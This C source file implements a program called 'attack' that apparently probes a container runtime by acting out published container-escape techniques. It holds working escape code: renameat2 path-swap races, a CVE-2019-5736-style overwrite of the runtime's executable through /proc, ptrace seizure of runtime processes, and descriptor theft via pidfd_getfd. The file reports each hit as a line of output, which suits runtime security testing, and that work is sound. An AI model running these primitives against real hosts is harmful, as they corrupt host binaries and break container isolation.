/* What a hostile program inside a container does; each word is one of the published attacks.
 *
 *   attack exchange A B [A B...]   swap each pair of names for ever (renameat2(2)), as in the races
 *                                  for a mount's path
 *   attack hunt PATH SECONDS       lie in wait for processes of the runtime: write to what they
 *                                  execute, trace them, take their descriptors and directories.
 *                                  PATH is a file outside; reaching it is reported. SIGTERM ends it
 *   attack escape PATH FD          the same through one descriptor of our own
 *   attack peer PORT               wait for a connection and tell its address
 *
 * A finding is a line; hunt's last one is how many processes came by.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int exchange(int count, char **names)
{
        for (unsigned round = 0;; round++) {
                for (int i = 0; i + 1 < count; i += 2)
                        if (syscall(SYS_renameat2, AT_FDCWD, names[i], AT_FDCWD, names[i + 1],
                                    RENAME_EXCHANGE) < 0) {
                                perror("exchange");
                                return 1;
                        }
                sched_yield();
        }
}

static const char *outside; /* of the container: a file that must not be reached */

/* A finding is told once. */
static void tell(const char *what, const char *name)
{
        static char told[64][96];
        char line[96];

        snprintf(line, sizeof(line), "%s %s", what, name);
        for (size_t i = 0; i < 64; i++) {
                if (strcmp(told[i], line) == 0)
                        return;
                if (told[i][0])
                        continue;
                strcpy(told[i], line);
                puts(line);
                fflush(stdout);
                return;
        }
}

/* Does a directory lead to the file, by its name from the top or from below? */
static bool leads_out(int dir_fd)
{
        char path[4096] = "";
        struct stat st;

        for (int up = 0; up < 24; up++) {
                snprintf(path + 3 * up, sizeof(path) - 3 * up, "%s", outside + 1);
                if (fstatat(dir_fd, path, &st, 0) == 0)
                        return true;
                memcpy(path + 3 * up, "../", 4);
        }
        return false;
}

static void try_directory(const char *path, const char *what, const char *comm)
{
        int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);

        if (fd >= 0 && leads_out(fd))
                tell(what, comm);
        if (fd >= 0)
                close(fd);
}

/* CVE-2019-5736: what a process executes is opened while it runs and written when it is done. */
static void try_exe(int pid, const char *comm)
{
        static int kept = -1;
        static ino_t kept_inode;
        char path[64], link[256];
        struct stat st, own;
        ssize_t n;
        int fd;

        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return;
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd); /* the process may have gone on */
        n = readlink(path, link, sizeof(link) - 1);
        if (n < 0 || fstat(fd, &st) < 0) {
                close(fd);
                return;
        }
        link[n] = '\0';
        if (stat(link, &own) == 0 && own.st_ino == st.st_ino && own.st_dev == st.st_dev) {
                close(fd); /* a program of the container's */
                return;
        }
        tell("executable", strncmp(link, "/memfd:", 7) == 0 ? "memfd" : comm);
        if (kept >= 0 && kept_inode != st.st_ino)
                close(kept);
        else if (kept >= 0)
                close(fd), fd = kept;
        kept = fd;
        kept_inode = st.st_ino;
}

/* Of what was met last. */
static void try_write(void)
{
        char path[64], link[64];
        ssize_t n;

        for (int fd = 3; fd < 16; fd++) {
                struct stat st, root;
                int writer;

                if (fstat(fd, &st) < 0 || !S_ISREG(st.st_mode) || stat("/", &root) < 0)
                        continue;
                snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
                writer = open(path, O_WRONLY | O_CLOEXEC);
                if (writer < 0)
                        continue;
                if (write(writer, "\177ELF", 4) > 0) {
                        n = readlink(path, link, sizeof(link) - 1);
                        link[n > 0 ? n : 0] = '\0';
                        tell("wrote", link);
                }
                close(writer);
        }
}

static void name_of(int pid, char *comm, size_t size)
{
        char path[64];
        int fd;
        ssize_t n;

        snprintf(path, sizeof(path), "/proc/%d/comm", pid);
        fd = open(path, O_RDONLY | O_CLOEXEC);
        n = fd < 0 ? 0 : read(fd, comm, size - 1);
        if (fd >= 0)
                close(fd);
        comm[n > 0 ? n : 0] = '\0';
        comm[strcspn(comm, "\n")] = '\0';
}

/* Its name is asked again: it may have become another program meanwhile. */
static void try_trace(int pid)
{
        char comm[32];

        if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
                return;
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        if (waitpid(pid, NULL, __WALL) == pid) {
                name_of(pid, comm, sizeof(comm));
                tell("traced", comm);
        }
        ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void try_take(int pid, const char *comm)
{
        int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

        for (int n = 0; pidfd >= 0 && n < 32; n++) {
                int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
                struct stat st;

                if (fd < 0)
                        continue;
                if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode) && leads_out(fd))
                        tell("took a directory of", comm);
                close(fd);
        }
        if (pidfd >= 0)
                close(pidfd);
}

static void try_process(int pid)
{
        char comm[32], path[64];
        DIR *dir;

        name_of(pid, comm, sizeof(comm));
        try_exe(pid, comm);
        snprintf(path, sizeof(path), "/proc/%d/root", pid);
        try_directory(path, "outside by root of", comm);
        snprintf(path, sizeof(path), "/proc/%d/cwd", pid);
        try_directory(path, "outside by cwd of", comm);
        snprintf(path, sizeof(path), "/proc/%d/fd", pid);
        dir = opendir(path);
        for (struct dirent *e; dir && (e = readdir(dir));) {
                char item[384];

                snprintf(item, sizeof(item), "%s/%s", path, e->d_name);
                try_directory(item, "outside by a descriptor of", comm);
        }
        if (dir)
                closedir(dir);
        try_take(pid, comm);
        try_trace(pid);
}

static volatile sig_atomic_t enough;

static void stop(int sig)
{
        (void)sig;
        enough = 1;
}

static int hunt(int seconds)
{
        time_t end = time(NULL) + seconds;
        int highest = 0, count = 0;

        signal(SIGTERM, stop);
        while (!enough && time(NULL) < end) {
                DIR *dir = opendir("/proc");

                for (struct dirent *e; dir && (e = readdir(dir));) {
                        int pid = isdigit((unsigned char)e->d_name[0]) ? atoi(e->d_name) : 0;

                        if (pid <= 0 || pid == getpid())
                                continue;
                        if (pid > highest) {
                                highest = pid;
                                count++;
                        }
                        try_process(pid);
                }
                if (dir)
                        closedir(dir);
                try_write();
        }
        printf("met %d\n", count);
        return 0;
}

static int peer(int port)
{
        struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
        socklen_t len = sizeof(address);
        int one = 1, fd = socket(AF_INET, SOCK_STREAM, 0), client;

        setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
        if (bind(fd, (struct sockaddr *)&address, sizeof(address)) < 0 || listen(fd, 1) < 0)
                return 1;
        puts("listening");
        fflush(stdout);
        client = accept(fd, (struct sockaddr *)&address, &len);
        if (client < 0)
                return 1;
        printf("peer %s\n", inet_ntoa(address.sin_addr));
        return 0;
}

int main(int argc, char **argv)
{
        const char *word = argc > 1 ? argv[1] : "";

        if (argc > 3 && strcmp(word, "exchange") == 0)
                return exchange(argc - 2, argv + 2);
        if (argc > 2 && strcmp(word, "peer") == 0)
                return peer(atoi(argv[2]));
        outside = argc > 2 ? argv[2] : "/";
        if (argc > 3 && strcmp(word, "hunt") == 0)
                return hunt(atoi(argv[3]));
        if (argc > 3 && strcmp(word, "escape") == 0) {
                puts(leads_out(atoi(argv[3])) ? "outside" : "inside");
                return 0;
        }
        fprintf(stderr, "attack: exchange, hunt, escape, peer\n");
        return 2;
}
